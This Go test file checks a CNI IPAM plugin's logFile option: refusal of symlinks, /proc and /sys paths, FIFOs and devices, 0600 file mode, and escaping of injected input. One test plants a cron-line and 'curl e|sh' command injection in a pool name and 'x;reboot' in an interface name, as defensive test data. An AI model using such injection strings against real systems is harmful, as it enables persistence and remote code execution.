package cniplugin_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hwipam/hwipam/pkg/cniplugin"
)

func confWithLog(socket, logFile string) []byte {
	lf, _ := json.Marshal(logFile)
	return []byte(fmt.Sprintf(`{"cniVersion": "1.0.0", "name": "net-a", "type": "macvlan",
		"ipam": {"type": "nv-ipam", "daemonSocket": %q, "confDir": "/nonexistent", "logFile": %s}}`, socket, lf))
}

// addWithLog runs ADD with logFile and returns what went to stderr. It fails
// the test when ADD fails or blocks: a log file must never cost an allocation.
func addWithLog(t *testing.T, socket, cid, logFile string) string {
	t.Helper()
	var stderr bytes.Buffer
	p := &cniplugin.Plugin{Stdout: &bytes.Buffer{}, Stderr: &stderr}
	done := make(chan error, 1)
	go func() {
		done <- p.Add(&cniplugin.CmdArgs{ContainerID: cid, IfName: "net1", Args: podArgs, StdinData: confWithLog(socket, logFile)})
	}()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("ADD with logFile %q: %v", logFile, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("ADD with logFile %q blocked", logFile)
	}
	return stderr.String()
}

// TestLogFileRefusals: logFile comes from the network config and root writes
// it; what is not a plain log file is refused without failing the call.
func TestLogFileRefusals(t *testing.T) {
	socket, _ := daemon(t)
	dir := t.TempDir()
	target := filepath.Join(dir, "target")
	must(t, os.WriteFile(target, nil, 0o600))
	must(t, os.Symlink(target, filepath.Join(dir, "link")))
	must(t, os.Symlink("/proc/self", filepath.Join(dir, "proc")))
	must(t, os.Symlink("/sys", filepath.Join(dir, "sys")))
	must(t, syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o600))
	must(t, os.Mkdir(filepath.Join(dir, "subdir"), 0o700))
	wd, err := os.Getwd()
	must(t, err)

	cases := map[string]struct{ path, why string }{
		"relative":             {"nv-ipam-test.log", "not an absolute path"},
		"symlink":              {filepath.Join(dir, "link"), "symbolic link"},
		"in /proc":             {"/proc/self/comm", "inside /proc or /sys"},
		"in /sys":              {"/sys/kernel/uevent_helper", "inside /proc or /sys"},
		"parent into /proc":    {filepath.Join(dir, "proc", "comm"), "inside /proc or /sys"},
		"parent into /sys":     {filepath.Join(dir, "sys", "uevent_helper"), "inside /proc or /sys"},
		"dotdot into /proc":    {dir + "/../../../../../../../../proc/self/comm", "inside /proc or /sys"},
		"pseudo fs elsewhere":  {"/dev/pts/nv-ipam-test.log", "devpts"},
		"FIFO":                 {filepath.Join(dir, "fifo"), "a FIFO"},
		"directory":            {filepath.Join(dir, "subdir"), "a directory"},
		"device":               {"/dev/null", "a character device"},
		"missing directory":    {filepath.Join(dir, "nope", "x.log"), "directory"},
		"root directory":       {"/", "names a directory"},
		"trailing slash, file": {target + "/", "names a directory"},
		"dot":                  {dir + "/.", "a directory"},
	}
	var fs syscall.Statfs_t
	if err := syscall.Statfs("/dev/pts", &fs); err != nil || fs.Type != 0x1cd1 { // DEVPTS_SUPER_MAGIC
		delete(cases, "pseudo fs elsewhere")
		t.Log("no devpts at /dev/pts: not checking a pseudo filesystem outside /proc and /sys")
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			stderr := addWithLog(t, socket, "c-"+strings.ReplaceAll(name, " ", "-"), tc.path)
			if !strings.Contains(stderr, "logFile") || !strings.Contains(stderr, tc.why) || strings.Count(stderr, "\n") != 1 {
				t.Errorf("stderr = %q, want one warning saying %q", stderr, tc.why)
			}
		})
	}
	if st, err := os.Stat(target); err != nil || st.Size() != 0 {
		t.Errorf("the symlink's target was written: %v %v", st, err)
	}
	if _, err := os.Stat(filepath.Join(wd, "nv-ipam-test.log")); err == nil {
		t.Errorf("a relative logFile was created in the working directory")
		_ = os.Remove(filepath.Join(wd, "nv-ipam-test.log"))
	}
	if _, err := os.Stat("/dev/pts/nv-ipam-test.log"); err == nil {
		t.Errorf("a log file was created on devpts")
	}
}

// TestLogFileCreatedPrivateAndOneLinePerEntry: a new log file is 0600 whatever
// the umask; an existing one is appended to and keeps its mode; values from the
// network config cannot start lines of their own.
func TestLogFileCreatedPrivateAndOneLinePerEntry(t *testing.T) {
	socket, _ := daemon(t)
	dir := t.TempDir()
	created := filepath.Join(dir, "new.log")
	old := syscall.Umask(0o277) // would leave 0400
	stderr := addWithLog(t, socket, "c1", created)
	syscall.Umask(old)
	if stderr != "" {
		t.Errorf("stderr = %q, want nothing", stderr)
	}
	st, err := os.Stat(created)
	if err != nil || st.Mode().Perm() != 0o600 || !st.Mode().IsRegular() {
		t.Fatalf("created log file: %v %v, want a regular file with mode 0600", st, err)
	}

	existing := filepath.Join(dir, "existing.log")
	must(t, os.WriteFile(existing, []byte("before\n"), 0o644))
	addWithLog(t, socket, "c2", existing)
	data, err := os.ReadFile(existing)
	must(t, err)
	if !strings.HasPrefix(string(data), "before\n") || strings.Count(string(data), "\n") != 2 {
		t.Errorf("existing log file = %q, want the old line and one new one", data)
	}
	// The line as the fmt-built one was: a UTC timestamp, then the call.
	added := strings.TrimPrefix(strings.TrimSuffix(string(data), "\n"), "before\n")
	if !regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z nv-ipam: ADD c2/net1 pools \[[a-z0-9-]+( [a-z0-9-]+)*\]: [0-9a-f.:]+/\d+(,[0-9a-f.:]+/\d+)*$`).MatchString(added) {
		t.Errorf("ADD's log line = %q, want <UTC time> nv-ipam: ADD c2/net1 pools [<pools>]: <addresses>", added)
	}
	if st, _ := os.Stat(existing); st.Mode().Perm() != 0o644 {
		t.Errorf("existing log file's mode changed to %v", st.Mode())
	}

	// A pool name with a newline and shell commands, an interface name with a
	// command: ADD fails (no such pool) and is logged on one inert line.
	injected := filepath.Join(dir, "injected.log")
	stdin := bytes.Replace(confWithLog(socket, injected), []byte(`"type": "nv-ipam",`),
		[]byte(`"type": "nv-ipam", "poolName": "x\n* * * * * root /tmp/evil\n;curl e|sh>/x&$(id)`+"`id`'\\\\"+`",`), 1)
	p := &cniplugin.Plugin{Stdout: &bytes.Buffer{}, Stderr: &bytes.Buffer{}}
	if err := p.Add(&cniplugin.CmdArgs{ContainerID: "c3", IfName: "x;reboot", Args: podArgs, StdinData: stdin}); err == nil {
		t.Fatal("ADD in a pool that does not exist succeeded")
	}
	data, err = os.ReadFile(injected)
	must(t, err)
	line := strings.TrimSuffix(string(data), "\n")
	if strings.Contains(line, "\n") || strings.ContainsAny(line, ";|&<>$`'") ||
		!strings.Contains(line, `x\n* * * * * root /tmp/evil\n\x3bcurl e\x7csh\x3e/x\x26\x24(id)\x60id\x60\x27\x5c`) ||
		!strings.Contains(line, `c3/x\x3breboot`) {
		t.Errorf("log = %q, want one line with control and shell characters escaped", data)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
